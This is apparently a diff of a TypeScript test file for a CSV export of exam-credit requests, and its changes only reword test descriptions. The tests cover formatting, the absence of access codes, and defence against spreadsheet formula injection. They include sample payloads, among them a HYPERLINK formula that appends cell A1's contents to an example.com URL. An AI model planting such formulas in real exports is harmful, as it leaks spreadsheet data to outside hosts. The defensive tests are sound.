@@ -30,7 +30,7 @@ describe('the rows', () => {
     ]);
   });
 
-  it('say of an exam what was sent and what came of it', () => {
+  it('say whether each exam was sent, and the outcome', () => {
     expect(exportRows(RICH)[0]).toEqual({
       request: '2026-04-20',
       stage: 'closed',
@@ -49,26 +49,26 @@ describe('the rows', () => {
     expect(exportRows(first)[0]?.credit_hours).toBe('');
   });
 
-  it('give no time for a letter if only its day is known', () => {
+  it('give no time for a letter if only its date is known', () => {
     const at = new Date(2026, 5, 3, 12).toISOString();
     const life: typeof SENT.life = [{ event: 'sent', at, isDayOnly: true }];
     expect(exportRows({ ...RICH, all: [{ ...SENT, life }] })[0]).toMatchObject({ sent: '2026-06-03' });
   });
 
-  it('name the credit as last reported', () => {
+  it('name the credit as last recorded', () => {
     const answer = (hours: number) => ({ event: 'answered', answer: 'posted', credits: [{ exam: 'AZ-103', hours }] });
     const at = '2026-06-22T14:00:00.000Z';
     const life = [SENT.life[0], { ...answer(3), at, note: '' }, { ...answer(0), at, note: '' }] as typeof SENT.life;
     expect(exportRows({ ...RICH, all: [{ ...SENT, life }] })[0]?.credit_hours).toBe('0');
   });
 
-  it('tell requests that were begun on one day apart', () => {
+  it('distinguish requests started on the same day', () => {
     const all = RICH.all.map((request) => ({ ...request, startedAt: '2026-04-20T12:00:00.000Z' }));
     const names = new Set(exportRows({ ...RICH, all }).map(({ request }) => request));
     expect([...names]).toEqual(['2026-04-20', '2026-04-20 (2)']);
   });
 
-  it('say of evidence where it is shown', () => {
+  it('say where evidence is published', () => {
     const evidence = [oldTranscript(), credlyBadge(), learnTranscript({ exams: [exam('AZ-900')] })];
     expect(
       exportRows(requestsWith(evidence)).map(({ title, link, transcript_id }) => [title, link, transcript_id]),
@@ -79,36 +79,36 @@ describe('the rows', () => {
     ]);
   });
 
-  it('are none if there is nothing', () => {
+  it('are empty if there is nothing', () => {
     expect(exportRows(NOTHING.requests)).toEqual([]);
   });
 });
 
 describe('the table', () => {
-  it('is read back as it was written', () => {
+  it('is read back unchanged', () => {
     expect(readBack(tableOf(RICH))).toEqual(exportRows(RICH));
   });
 
-  it('begins with the mark that makes Excel read every letter correctly, then its columns, and ends every line with CRLF', () => {
+  it('starts with the byte-order mark for Excel and the column names, and ends every line with CRLF', () => {
     const lines = tableOf(RICH).split('\r\n');
     expect(lines[0]).toBe(`\uFEFF${COLUMNS.join(',')}`);
     expect(lines).toHaveLength(exportRows(RICH).length + 1);
     expect(tableOf(NOTHING.requests).trimEnd()).toBe(`\uFEFF${COLUMNS.join(',')}`);
   });
 
-  it('holds no access code', () => {
+  it('contains no access code', () => {
     const { request } = requestWith([oldTranscript()], { codes: { 1234567: 'Avery2020' } });
     expect(tableOf(only(request).requests)).not.toContain('Avery2020');
   });
 
-  it('keeps commas, quotes and other letters', () => {
+  it('keeps commas, quotes and non-Latin letters', () => {
     const title = 'Größe, "Azure"; 試験 – 100 %';
     const [row] = readBack(tableOf(requestsWith([credlyBadge({ title })])));
     expect(row?.title).toBe(title);
   });
 });
 
-describe('what a spreadsheet would take for a formula is text', () => {
+describe('anything a spreadsheet would take for a formula becomes text', () => {
   it.each([
     '=1+1',
     '=HYPERLINK("https://example.com/?"&A1,"Open")',
@@ -141,12 +141,12 @@ describe('what a spreadsheet would take for a formula is text', () => {
     ['Azure; @SUM(1)', "Azure;' @SUM(1)"],
     ['Azure\t-1', "Azure\t'-1"],
     ['Azure\n+1', "Azure\n'+1"],
-  ])('also where a semicolon, a tab or a break ends a cell, as in other countries: %j', (title, written) => {
+  ])('even if a semicolon, tab or line break ends a cell, as in other locales: %j', (title, written) => {
     const [row] = readBack(tableOf(requestsWith([credlyBadge({ title })])));
     expect(row?.title).toBe(written);
   });
 
-  it('in every column, whatever was typed or read from a page', () => {
+  it('in every column, for any typed or read text', () => {
     const evil = fc
       .constantFrom('=', '+', '-', '@', '\t=', '\r-', '\n@', ' =')
       .chain((begin) => anyText.map((text) => begin + text));
@@ -161,7 +161,7 @@ describe('what a spreadsheet would take for a formula is text', () => {
     );
   });
 
-  it('and nothing else is changed', () => {
+  it('without changing anything else', () => {
     for (const title of ['Azure', "'quoted'", '1-2', 'a=b', 'a@b.c', '70-533', '3.5']) {
       const [row] = readBack(tableOf(requestsWith([credlyBadge({ title })])));
       expect(row?.title).toBe(title);
